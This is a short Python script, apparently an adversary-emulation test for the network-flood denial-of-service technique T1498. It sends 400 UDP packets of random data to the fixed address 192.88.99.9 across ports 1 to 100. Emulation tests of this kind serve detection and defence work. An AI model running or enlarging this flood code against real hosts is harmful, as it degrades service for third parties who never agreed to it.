#!/usr/bin/env python3
# title: Many packets are sent to one host
# technique: T1498.001 T1498
# needs: python3

import os, socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
data = os.urandom(1000)
for number in range(400): s.sendto(data, ("192.88.99.9", 1 + number % 100))
